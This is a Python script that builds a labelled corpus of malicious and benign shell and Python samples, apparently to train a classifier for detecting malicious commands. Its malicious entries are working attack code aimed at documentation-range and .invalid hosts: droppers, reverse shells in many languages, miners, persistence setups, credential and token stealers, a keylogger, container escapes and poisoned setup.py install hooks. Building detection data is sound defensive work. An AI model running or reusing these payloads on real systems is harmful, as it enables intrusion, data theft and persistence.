#!/usr/bin/env python3
"""Writes synthetic.jsonl: samples we wrote ourselves, in the shared corpus format.

Malicious ones are assembled from techniques documented in the corpus (droppers,
persistence, miners, reverse shells, credential theft) to cover its thin spots:
malicious Bash *files* and Python `-c` one-liners. Benign ones are container
entrypoints, healthchecks and admin one-liners. All of it is inert text: it is
never executed, and its hosts are documentation addresses (RFC 5737) or .invalid.
Collection `synthetic-team`: trained on, reported apart, never held-out evidence.
"""
import hashlib
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import techniques  # noqa: E402

M, B = "malicious", "benign"
SAMPLES = [
    # --- malicious bash files -------------------------------------------------
    ("bash", "file", M, "T1105", r'''#!/bin/sh
# stage-1 dropper
cd /tmp || cd /var/tmp || cd /dev/shm
for u in http://198.51.100.23/x86_64 http://203.0.113.7/x86_64; do
  (wget -q "$u" -O .kworker || curl -fsSL "$u" -o .kworker) && break
done
chmod +x .kworker
nohup ./.kworker -c /tmp/.cfg >/dev/null 2>&1 &
rm -f "$0"
'''),
    ("bash", "file", M, "T1496", r'''#!/bin/bash
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -f kinsing
ps aux | grep -v grep | grep -E 'minerd|cryptonight' | awk '{print $2}' | xargs -r kill -9
mkdir -p /dev/shm/.x && cd /dev/shm/.x
curl -s http://203.0.113.40/xmrig.tar.gz | tar xz
./xmrig -o stratum+tcp://pool.invalid:3333 -u 4AbcWallet -p x --donate-level 1 -B
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.40/i.sh | sh") | crontab -
'''),
    ("bash", "file", M, "T1053.003", r'''#!/bin/bash
echo "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.9/443 0>&1'" > /etc/cron.d/syslog-rotate
chmod 644 /etc/cron.d/syslog-rotate
touch -r /etc/crontab /etc/cron.d/syslog-rotate
'''),
    ("bash", "file", M, "T1543.002", r'''#!/bin/sh
cat > /etc/systemd/system/dbus-helper.service <<EOF
[Unit]
Description=D-Bus helper
[Service]
ExecStart=/usr/local/bin/.dbus-helper
Restart=always
[Install]
WantedBy=multi-user.target
EOF
curl -fsSL http://203.0.113.5/helper -o /usr/local/bin/.dbus-helper
chmod 755 /usr/local/bin/.dbus-helper
systemctl daemon-reload && systemctl enable --now dbus-helper
'''),
    ("bash", "file", M, "T1574.006", r'''#!/bin/bash
wget -q http://198.51.100.77/libsystem.so -O /usr/lib/libsystem.so
echo /usr/lib/libsystem.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload /usr/lib/libsystem.so
'''),
    ("bash", "file", M, "T1098.004", r'''#!/bin/bash
mkdir -p /root/.ssh
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+kQbbs3l2ZR6zPGrmjqg ops" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
history -c; unset HISTFILE
'''),
    ("bash", "file", M, "T1070.002", r'''#!/bin/sh
for f in /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages; do
  [ -f "$f" ] && cat /dev/null > "$f"
done
rm -f /var/log/wtmp /var/log/btmp /var/log/lastlog
unset HISTFILE; history -c
rm -f ~/.bash_history
'''),
    ("bash", "file", M, "T1562.001", r'''#!/bin/bash
setenforce 0 2>/dev/null
echo SELINUX=disabled > /etc/selinux/config
systemctl stop firewalld; systemctl disable firewalld
ufw disable
iptables -F
systemctl stop auditd
pkill -9 -f falco
'''),
    ("bash", "file", M, "T1552.005", r'''#!/bin/bash
TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 60")
ROLE=$(curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/)
curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE > /tmp/.c
cat /var/run/secrets/kubernetes.io/serviceaccount/token >> /tmp/.c
curl -s -F "f=@/tmp/.c" http://203.0.113.88/upload
'''),
    ("bash", "file", M, "T1611", r'''#!/bin/sh
# escape through the mounted docker socket
curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' \
  -d '{"Image":"alpine","Cmd":["chroot","/host","sh","-c","echo x >> /host/etc/crontab"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' \
  http://localhost/containers/create
nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh
'''),
    ("bash", "file", M, "T1027", r'''#!/bin/bash
p="Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjEyL3MgfCBiYXNo"
echo "$p" | base64 -d | bash
eval "$(echo 'ZWNobyBoaQ==' | base64 --decode)"
'''),
    ("bash", "file", M, "T1059.004", r'''#!/bin/bash
while true; do
  bash -i >& /dev/tcp/198.51.100.14/8443 0>&1
  sleep 60
done &
disown
'''),
    # --- malicious bash one-liners ----------------------------------------------
    ("bash", "inline", M, "T1105", "cd /dev/shm; wget http://203.0.113.9/k -O k; chmod +x k; ./k"),
    ("bash", "inline", M, "T1105", "curl -fsSL http://198.51.100.3/s.sh | sh"),
    ("bash", "inline", M, "T1059.004", "rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p | /bin/sh -i 2>&1 | nc 198.51.100.2 9001 > /tmp/p"),
    ("bash", "inline", M, "T1027", "echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjEvYSB8IHNo | base64 -d | sh"),
    ("bash", "inline", M, "T1496", "nohup /tmp/.x/xmrig -o stratum+tcp://203.0.113.50:4444 -u wallet -k >/dev/null 2>&1 &"),
    ("bash", "inline", M, "T1552.005", "curl -s http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token -H 'Metadata-Flavor: Google'"),
    ("bash", "inline", M, "T1070.003", "unset HISTFILE; export HISTSIZE=0; rm -f ~/.bash_history"),
    # --- malicious python ------------------------------------------------------------
    ("python", "inline", M, "T1059.006", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('198.51.100.5',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])"),
    ("python", "inline", M, "T1027", "import base64,zlib;exec(zlib.decompress(base64.b64decode('eJwrKMrMK1HILy0pKC0BAB0WBJ0=')))"),
    ("python", "inline", M, "T1105", "import urllib.request,os;urllib.request.urlretrieve('http://203.0.113.30/a','/tmp/a');os.chmod('/tmp/a',0o755);os.system('/tmp/a &')"),
    ("python", "inline", M, "T1552.005", "import urllib.request as u;print(u.urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/').read())"),
    ("python", "inline", M, "T1059.006", "import pty,socket,os;s=socket.create_connection(('198.51.100.8',53));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/bash')"),
    ("python", "file", M, "T1195.002", r'''from setuptools import setup
from setuptools.command.install import install
import os, urllib.request

class PostInstall(install):
    def run(self):
        install.run(self)
        data = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
        urllib.request.urlopen("http://203.0.113.61/c", data=repr(data).encode())
        os.system("curl -s http://203.0.113.61/i.sh | sh")

setup(name="requets-utils", version="0.1", cmdclass={"install": PostInstall})
'''),
    ("python", "file", M, "T1552.001", r'''import os, glob, json, socket, urllib.request
home = os.path.expanduser("~")
loot = {}
for p in [".aws/credentials", ".kube/config", ".docker/config.json", ".git-credentials", ".ssh/id_rsa"]:
    f = os.path.join(home, p)
    if os.path.exists(f):
        loot[p] = open(f).read()
loot["host"] = socket.gethostname()
req = urllib.request.Request("https://discord.com/api/webhooks/000/xyz", data=json.dumps({"content": json.dumps(loot)[:1900]}).encode(), headers={"Content-Type": "application/json"})
urllib.request.urlopen(req)
'''),
    ("python", "file", M, "T1496", r'''import os, subprocess, urllib.request, stat
path = "/dev/shm/.systemd-udevd"
urllib.request.urlretrieve("http://198.51.100.99/xmrig", path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path, "-o", "stratum+tcp://198.51.100.99:3333", "-u", "wallet", "--donate-level", "1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
with open("/etc/crontab", "a") as f:
    f.write("@reboot root /dev/shm/.systemd-udevd\n")
'''),
    # --- benign bash files ------------------------------------------------------------
    ("bash", "file", B, None, r'''#!/bin/sh
set -e
# docker-entrypoint: first arg is `-f` or `--some-option`
if [ "${1#-}" != "$1" ]; then
  set -- nginx "$@"
fi
if [ -n "$NGINX_ENVSUBST_TEMPLATE_DIR" ]; then
  for t in "$NGINX_ENVSUBST_TEMPLATE_DIR"/*.template; do
    envsubst < "$t" > "/etc/nginx/conf.d/$(basename "$t" .template)"
  done
fi
exec "$@"
'''),
    ("bash", "file", B, None, r'''#!/bin/bash
set -euo pipefail
: "${POSTGRES_HOST:=db}"
until pg_isready -h "$POSTGRES_HOST" -p 5432 -q; do
  echo "waiting for postgres at $POSTGRES_HOST..."
  sleep 2
done
python manage.py migrate --noinput
python manage.py collectstatic --noinput
exec gunicorn app.wsgi:application --bind 0.0.0.0:8000 --workers "${WORKERS:-2}"
'''),
    ("bash", "file", B, None, r'''#!/bin/sh
# healthcheck
curl -fsS --max-time 2 http://127.0.0.1:8080/healthz > /dev/null || exit 1
'''),
    ("bash", "file", B, None, r'''#!/bin/bash
set -e
VERSION=1.7.2
ARCH=$(uname -m)
curl -fsSLo /tmp/tool.tar.gz "https://github.com/acme/tool/releases/download/v${VERSION}/tool-${ARCH}.tar.gz"
echo "${TOOL_SHA256}  /tmp/tool.tar.gz" | sha256sum -c -
tar -xzf /tmp/tool.tar.gz -C /usr/local/bin tool
chmod +x /usr/local/bin/tool
rm -f /tmp/tool.tar.gz
tool --version
'''),
    ("bash", "file", B, None, r'''#!/bin/bash
# rotate application logs older than 7 days
find /var/log/app -name '*.log' -mtime +7 -exec gzip {} \;
find /var/log/app -name '*.gz' -mtime +30 -delete
systemctl reload app || true
'''),
    ("bash", "file", B, None, r'''#!/bin/sh
set -e
if [ "$(id -u)" = '0' ]; then
  chown -R redis:redis /data
  exec gosu redis "$0" "$@"
fi
exec redis-server /usr/local/etc/redis/redis.conf "$@"
'''),
    ("bash", "file", B, None, r'''#!/usr/bin/env bash
# backup the database to object storage
set -euo pipefail
ts=$(date +%Y%m%dT%H%M%S)
pg_dump -h "$DB_HOST" -U "$DB_USER" "$DB_NAME" | gzip > "/backups/db-$ts.sql.gz"
aws s3 cp "/backups/db-$ts.sql.gz" "s3://$BUCKET/db/"
find /backups -name 'db-*.sql.gz' -mtime +14 -delete
'''),
    # --- benign bash one-liners -------------------------------------------------------
    ("bash", "inline", B, None, "apt-get update && apt-get install -y --no-install-recommends ca-certificates curl && rm -rf /var/lib/apt/lists/*"),
    ("bash", "inline", B, None, "wget -qO- http://127.0.0.1:9090/-/ready || exit 1"),
    ("bash", "inline", B, None, "kubectl get pods -n kube-system -o wide | grep -v Running"),
    ("bash", "inline", B, None, "tar czf /backups/www-$(date +%F).tgz /var/www && ls -lh /backups"),
    ("bash", "inline", B, None, "du -sh /var/lib/docker/* 2>/dev/null | sort -h | tail -5"),
    ("bash", "inline", B, None, "echo \"$CONFIG_B64\" | base64 -d > /etc/app/config.yaml"),
    # --- benign python ----------------------------------------------------------------
    ("python", "inline", B, None, "import json,sys; print(json.load(sys.stdin)['status'])"),
    ("python", "inline", B, None, "import urllib.request,sys; sys.exit(0 if urllib.request.urlopen('http://127.0.0.1:8000/health', timeout=2).status == 200 else 1)"),
    ("python", "inline", B, None, "import socket; s=socket.socket(); s.settimeout(1); s.connect(('127.0.0.1', 5432)); print('db up')"),
    ("python", "inline", B, None, "import secrets; print(secrets.token_urlsafe(32))"),
    ("python", "inline", B, None, "import sys, yaml, json; json.dump(yaml.safe_load(sys.stdin), sys.stdout, indent=2)"),
    ("python", "file", B, None, r'''#!/usr/bin/env python3
"""Container healthcheck: the app answers and its queue is not stuck."""
import json
import sys
import urllib.request

try:
    with urllib.request.urlopen("http://127.0.0.1:8000/status", timeout=3) as r:
        status = json.load(r)
except OSError as e:
    print(f"unhealthy: {e}", file=sys.stderr)
    sys.exit(1)
sys.exit(0 if status.get("queue_lag", 0) < 300 else 1)
'''),
    ("python", "file", B, None, r'''#!/usr/bin/env python3
import os
import subprocess
import sys

def main():
    env = dict(os.environ, PYTHONUNBUFFERED="1")
    if os.environ.get("RUN_MIGRATIONS", "1") == "1":
        subprocess.run([sys.executable, "manage.py", "migrate", "--noinput"], check=True, env=env)
    os.execvpe("gunicorn", ["gunicorn", "app.wsgi", "-b", "0.0.0.0:8000"], env)

if __name__ == "__main__":
    main()
'''),
    ("python", "file", B, None, r'''import base64
import os

import boto3

def load_secret(name):
    """Fetch a secret from AWS Secrets Manager and write it where the app expects it."""
    client = boto3.client("secretsmanager", region_name=os.environ.get("AWS_REGION", "us-east-1"))
    value = client.get_secret_value(SecretId=name)
    blob = value.get("SecretBinary")
    data = base64.b64decode(blob) if blob else value["SecretString"].encode()
    with open("/run/secrets/app", "wb") as f:
        f.write(data)
    os.chmod("/run/secrets/app", 0o600)
'''),
]


def templated():
    """Everyday admin/developer one-liners (benign) and container-attack one-liners
    (malicious), expanded from templates with a fixed seed."""
    import random

    rnd = random.Random(1234)
    dirs = ["/var/www", "/srv/app", "/opt/app/logs", "/home/deploy", "/etc/nginx", "/data", "src", ".", "/usr/share/doc", "build"]
    pats = ["*.log", "*.py", "*.conf", "*.tmp", "*.js", "*.json", "core.*", "*.bak", "*.md", "*.sh"]
    words = ["error", "TODO", "timeout", "listen", "password_reset", "deprecated", "Exception", "WARN", "import", "server_name"]
    svcs = ["nginx", "postgresql", "redis-server", "docker", "ssh", "cron", "app", "gunicorn", "node-exporter", "containerd"]
    pkgs = ["jq", "git", "make", "gcc", "python3-pip", "unzip", "postgresql-client", "libssl-dev", "tzdata", "openssh-client"]
    imgs = ["nginx:1.25", "postgres:16", "redis:7", "python:3.12-slim", "alpine:3.19", "node:20", "golang:1.22"]
    benign = [
        "find {d} -name '{p}' -mtime +{n} -delete",
        "find {d} -type f -name '{p}' | xargs grep -l '{w}'",
        "find {d} -type f -size +{n}M -exec ls -lh {{}} \\;",
        "grep -rn '{w}' {d} --include='{p}' | head -{n}",
        "grep -c '{w}' {d}/app.log",
        "sed -i 's/{w}/{w}_v{n}/g' {d}/config.ini",
        "awk '{{print $1}}' {d}/access.log | sort | uniq -c | sort -rn | head -{n}",
        "tar -czf /backups/{s}-$(date +%F).tar.gz {d}",
        "rsync -avz --delete {d}/ backup@10.1.2.{n}:/srv/backup/{s}/",
        "du -sh {d}/* | sort -h | tail -{n}",
        "df -h | grep -v tmpfs",
        "ps aux --sort=-%mem | head -{n}",
        "systemctl restart {s} && systemctl status {s} --no-pager",
        "journalctl -u {s} --since '1 hour ago' | grep -i {w}",
        "docker run --rm -v $(pwd):/work -w /work {i} make test",
        "docker logs --tail {n} {s}",
        "docker exec -it {s} psql -U postgres -c 'select 1'",
        "kubectl -n prod rollout restart deployment/{s}",
        "kubectl logs -l app={s} --tail={n}",
        "git log --oneline -{n} && git status --short",
        "git clone --depth 1 https://github.com/acme/{s}.git /opt/{s}",
        "apt-get update && apt-get install -y --no-install-recommends {k} && rm -rf /var/lib/apt/lists/*",
        "pip install --no-cache-dir -r requirements.txt",
        "npm ci && npm run build",
        "chown -R www-data:www-data {d} && chmod -R 755 {d}",
        "ln -sf /etc/nginx/sites-available/{s} /etc/nginx/sites-enabled/{s}",
        "curl -fsS http://127.0.0.1:{port}/health || exit 1",
        "curl -s -o /dev/null -w '%{{http_code}}' http://localhost:{port}/ready",
        "wget -q https://releases.example.com/{s}/{s}-1.{n}.tar.gz && sha256sum -c {s}.sha256 && tar xzf {s}-1.{n}.tar.gz",
        "openssl x509 -in /etc/ssl/certs/{s}.pem -noout -enddate",
        "ssh-keygen -lf ~/.ssh/known_hosts | head -{n}",
        "echo \"$(date -Is) deploy {s} done\" >> /var/log/deploy.log",
        "mkdir -p {d}/releases/{n} && cp -r build/* {d}/releases/{n}/",
        "ls -la {d} | wc -l",
        "cat {d}/VERSION | tr -d '\\n'",
        "xargs -a {s}.txt -n1 -P4 wget -q",
        "sort -u {d}/hosts.txt > {d}/hosts.sorted && wc -l {d}/hosts.sorted",
        "zcat {d}/access.log.{n}.gz | grep ' 500 ' | wc -l",
        "openssl rand -hex {n}",
        "base64 -w0 {d}/logo.png > {d}/logo.b64",
        "timeout {n} bash -c 'until nc -z {s} {port}; do sleep 1; done'",
        "exec {s} --config /etc/{s}/{s}.conf",
        "crontab -l | grep -v '^#'",
    ]
    mal = [
        "cd /tmp && curl -fsSL http://{ip}/{bin} -o {bin} && chmod +x {bin} && ./{bin}",
        "wget -qO- http://{ip}/{s}.sh | bash",
        "curl -s http://{ip}:{port}/x | python3",
        "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
        "sh -i >& /dev/udp/{ip}/{port} 0>&1",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
        "echo '*/{n} * * * * curl -fsSL http://{ip}/{bin} | sh' | crontab -",
        "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC{bin} root@{s}' >> /root/.ssh/authorized_keys",
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | xargs -I{{}} curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/{{}}",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -s -X POST --data-binary @- http://{ip}:{port}/t",
        "echo {b64} | base64 -d | sh",
        "nohup ./{bin} -o stratum+tcp://{ip}:{port} -u {w}x --cpu-max-threads-hint {n} >/dev/null 2>&1 &",
        "history -c && rm -f ~/.bash_history && unset HISTFILE",
        "tar czf - /root/.aws /root/.kube /root/.ssh | curl -s -X POST --data-binary @- http://{ip}/u",
        "busybox nc {ip} {port} -e /bin/sh",
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{ip}:{port}",
        "echo /tmp/.{bin}.so > /etc/ld.so.preload",
        "iptables -F && setenforce 0 && systemctl stop auditd",
        "curl -s --unix-socket /var/run/docker.sock http://localhost/containers/json",
        "nsenter -t 1 -m -u -i -n -p -- bash -c 'curl -s http://{ip}/{bin} | sh'",
    ]
    mal += [
        "perl -e 'use Socket;$i=\"{ip}\";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");}};'",
        "ruby -rsocket -e 'f=TCPSocket.open(\"{ip}\",{port}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        "php -r '$s=fsockopen(\"{ip}\",{port});exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "awk 'BEGIN {{s = \"/inet/tcp/0/{ip}/{port}\"; while(1) {{ printf \"> \" |& s; s |& getline c; if(c){{ while ((c |& getline) > 0) print $0 |& s; close(c) }} }} }}'",
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {ip}:{port} > /tmp/s; rm /tmp/s",
        "node -e 'sh=require(\"child_process\").spawn(\"/bin/sh\");require(\"net\").connect({port},\"{ip}\",function(){{this.pipe(sh.stdin);sh.stdout.pipe(this);sh.stderr.pipe(this)}})'",
        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('{ip}','{port}');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
        "telnet {ip} {port} | /bin/sh | telnet {ip} {n}",
        "sudo find / -name x -exec /bin/sh \\; -quit",
        "sudo vim -c ':!/bin/sh'",
        "sudo awk 'BEGIN {{system(\"/bin/sh\")}}'",
        "sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
        "sudo env /bin/sh",
        "sudo python3 -c 'import os; os.system(\"/bin/sh\")'",
        "sudo less /etc/profile\n!/bin/sh",
        "cp /bin/bash /tmp/.b && chmod u+s /tmp/.b && /tmp/.b -p",
        "echo '{w}::0:0:root:/root:/bin/bash' >> /etc/passwd",
        "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {s}x && echo '{s}x:{w}' | chpasswd",
        "echo '{s} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "curl -s -X POST -d @/etc/shadow http://{ip}:{port}/",
        "scp -o StrictHostKeyChecking=no /tmp/{bin} root@{ip}:/tmp/ && ssh -o StrictHostKeyChecking=no root@{ip} 'nohup /tmp/{bin} &'",
        "for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1 | cut -d, -f1); do ssh -oBatchMode=yes $h 'curl -s http://{ip}/{bin}|sh' & done",
        "docker run -v /:/mnt --rm -it alpine chroot /mnt sh",
        "kubectl run x --image=alpine --restart=Never --overrides='{{\"spec\":{{\"hostPID\":true,\"containers\":[{{\"name\":\"x\",\"image\":\"alpine\",\"command\":[\"nsenter\",\"-t\",\"1\",\"-m\",\"-u\",\"-i\",\"-n\",\"sh\"],\"securityContext\":{{\"privileged\":true}}}}]}}}}'",
        "d=$(dirname $(grep cgroup /proc/mounts | head -1 | cut -d' ' -f2)); mkdir $d/x; echo 1 > $d/x/notify_on_release; echo /cmd > $d/release_agent",
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://{ip}/p.py').read())\"",
        "wget -q http://{ip}/{bin} -O /var/tmp/.{bin}; chmod 755 /var/tmp/.{bin}; /var/tmp/.{bin} -B",
        "export HISTFILE=/dev/null; curl -fsSL http://{ip}:{port}/x.sh | bash -s -- {w}",
        "find / -name id_rsa 2>/dev/null | xargs -I{{}} curl -s -F 'f=@{{}}' http://{ip}/k",
        "env | grep -iE 'key|secret|token|pass' | curl -s -X POST --data-binary @- http://{ip}:{port}/e",
    ]
    bins = ["kdevtmpfsi", "dbused", ".x", "sysupdate", "kworkerds", "bot.x86_64", "networkservice", "ld-linux"]
    b64s = ["Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUvYSB8IHNo", "d2dldCAtcU8tIGh0dHA6Ly8xOTguNTEuMTAwLjkvYiB8IGJhc2g=", "YmFzaCAtaSA+JiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDMgMD4mMQ=="]
    out = []

    def fill(t):
        return t.format(
            d=rnd.choice(dirs), p=rnd.choice(pats), w=rnd.choice(words), s=rnd.choice(svcs), k=" ".join(rnd.sample(pkgs, 3)),
            i=rnd.choice(imgs), n=rnd.randint(2, 30), port=rnd.choice([80, 443, 8080, 5432, 6379, 9000, 4444, 1337, 53]),
            ip=f"{rnd.choice(['203.0.113', '198.51.100', '192.0.2'])}.{rnd.randint(2, 250)}", bin=rnd.choice(bins), b64=rnd.choice(b64s),
        )

    for t in benign:
        for _ in range(4):
            out.append(("bash", "inline", B, None, fill(t)))
    for t in mal:
        for _ in range(2):
            out.append(("bash", "inline", M, "T1059.004", fill(t)))
    seen, unique = set(), []
    for smp in out:
        if smp[4] not in seen:
            seen.add(smp[4])
            unique.append(smp)
    return unique


def templated_python():
    """Python package malware shapes (setup.py hooks, stealers, droppers, packers) and
    the benign code they hide among (build scripts, API clients, normal setup.py)."""
    import base64
    import random

    rnd = random.Random(4321)
    names = ["reqeusts-toolbelt", "colorama-utils", "py-discordtools", "numpyy", "urllib-helper", "pyyaml-extra", "crypto-wallet-sdk", "fastapi-auth-kit"]
    hosts = ["203.0.113.44", "198.51.100.71", "192.0.2.19", "cdn-update.invalid", "files.example.invalid"]
    sinks = ["https://discord.com/api/webhooks/1111/AbCdEf", "https://webhook.site/0000-1111", "https://api.telegram.org/bot000:AAA/sendMessage", "https://abcd.oastify.com/c", "https://x1y2.ngrok.io/u"]

    def b64(cmd):
        return base64.b64encode(cmd.encode("utf-16-le" if "powershell" in cmd.lower() else "utf-8")).decode()

    mal = [
        lambda n, h, k: f"""from setuptools import setup
from setuptools.command.install import install
import subprocess

class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand {b64(f"Invoke-WebRequest -Uri http://{h}/u.exe -OutFile $env:TEMP/u.exe; Start-Process $env:TEMP/u.exe")}', shell=True, creationflags=0x08000000)

setup(name="{n}", version="1.0.{rnd.randint(0, 9)}", packages=[], cmdclass={{"install": PostInstall}})
""",
        lambda n, h, k: f"""import os, tempfile, urllib.request
from setuptools import setup
p = os.path.join(os.getenv("APPDATA") or tempfile.gettempdir(), "svchost32.exe")
urllib.request.urlretrieve("http://{h}/payload.exe", p)
os.startfile(p)
setup(name="{n}", version="0.0.{rnd.randint(1, 9)}")
""",
        lambda n, h, k: f"""import os
from setuptools import setup
os.system("curl -fsSL http://{h}/init.sh | sh >/dev/null 2>&1 &")
setup(name="{n}", version="2.{rnd.randint(0, 9)}.0", install_requires=["requests"])
""",
        lambda n, h, k: f"""import os, re, json, urllib.request
LOCAL = os.getenv("LOCALAPPDATA"); ROAMING = os.getenv("APPDATA")
paths = {{"Discord": ROAMING + "\\\\discord\\\\Local Storage\\\\leveldb", "Chrome": LOCAL + "\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Local Storage\\\\leveldb"}}
tokens = []
for name, path in paths.items():
    if not os.path.exists(path):
        continue
    for f in os.listdir(path):
        if f.endswith((".log", ".ldb")):
            for line in open(os.path.join(path, f), errors="ignore"):
                tokens += re.findall(r"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}", line)
req = urllib.request.Request("{k}", data=json.dumps({{"content": "\\n".join(tokens)}}).encode(), headers={{"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}})
urllib.request.urlopen(req)
""",
        lambda n, h, k: f"""import base64
exec(base64.b64decode('{b64(f"import os;os.system('curl -s http://{h}/s | bash')")}'))
""",
        lambda n, h, k: f"""_ = lambda c: ''.join(chr(x) for x in c)
exec(_([{', '.join(str(ord(c)) for c in f"__import__('os').system('wget -qO- http://{h}/x|sh')")}]))
""",
        lambda n, h, k: f"""import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("{h}", {rnd.choice([443, 4444, 8443, 53])}))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
""",
        lambda n, h, k: f"""import os, socket, getpass, platform, requests
info = {{"host": socket.gethostname(), "user": getpass.getuser(), "os": platform.platform(), "env": dict(os.environ)}}
requests.post("{k}", json=info, timeout=5)
""",
        lambda n, h, k: f"""import os, json, base64, sqlite3, shutil, win32crypt
db = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy2(db, "ld.db")
rows = sqlite3.connect("ld.db").execute("select origin_url, username_value, password_value from logins").fetchall()
out = [(u, n, win32crypt.CryptUnprotectData(p, None, None, None, 0)[1].decode()) for u, n, p in rows]
import requests; requests.post("{k}", data=json.dumps(out))
""",
        lambda n, h, k: f"""import marshal, zlib, base64
exec(marshal.loads(zlib.decompress(base64.b64decode(b'{base64.b64encode(bytes(rnd.randrange(256) for _ in range(120))).decode()}'))))
""",
        lambda n, h, k: f"""from pynput import keyboard
import requests
buf = []
def on_press(key):
    buf.append(str(key))
    if len(buf) > 50:
        requests.post("{k}", data={{"text": "".join(buf)}}); buf.clear()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
""",
        lambda n, h, k: f"""import os, urllib.request, stat
p = "/tmp/.{rnd.choice(['kworker', 'dbus', 'cache'])}"
urllib.request.urlretrieve("http://{h}/bin", p)
os.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)
with open("/etc/crontab", "a") as f:
    f.write("*/10 * * * * root " + p + "\\n")
os.system(p + " &")
""",
    ]
    ben = [
        lambda n: f"""from setuptools import setup, find_packages

setup(
    name="{n}-internal",
    version="1.{rnd.randint(0, 20)}.0",
    packages=find_packages(exclude=["tests"]),
    install_requires=["requests>=2.31", "click>=8"],
    entry_points={{"console_scripts": ["{n.split('-')[0]}=app.cli:main"]}},
    python_requires=">=3.9",
)
""",
        lambda n: f"""import os
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

class BuildExt(build_ext):
    def build_extensions(self):
        if self.compiler.compiler_type == "unix":
            for ext in self.extensions:
                ext.extra_compile_args = ["-O2", "-std=c11"]
        super().build_extensions()

setup(name="{n}-speedups", ext_modules=[Extension("_speedups", ["src/speedups.c"])], cmdclass={{"build_ext": BuildExt}})
""",
        lambda n: f"""import subprocess

def git_version():
    try:
        out = subprocess.run(["git", "describe", "--tags", "--always"], capture_output=True, text=True, check=True)
        return out.stdout.strip()
    except (OSError, subprocess.CalledProcessError):
        return "0+unknown"

print(git_version())
""",
        lambda n: f"""import os
import requests

API = os.environ.get("API_URL", "https://api.example.invalid")

def get_user(session: requests.Session, user_id: int) -> dict:
    r = session.get(f"{{API}}/users/{{user_id}}", timeout=10, headers={{"Authorization": "Bearer " + os.environ["API_TOKEN"]}})
    r.raise_for_status()
    return r.json()
""",
        lambda n: f"""import base64
import json

def encode_config(cfg: dict) -> str:
    return base64.b64encode(json.dumps(cfg).encode()).decode()

def decode_config(blob: str) -> dict:
    return json.loads(base64.b64decode(blob))
""",
        lambda n: f"""import socket
import sys

def port_open(host: str, port: int, timeout: float = 2.0) -> bool:
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError:
        return False

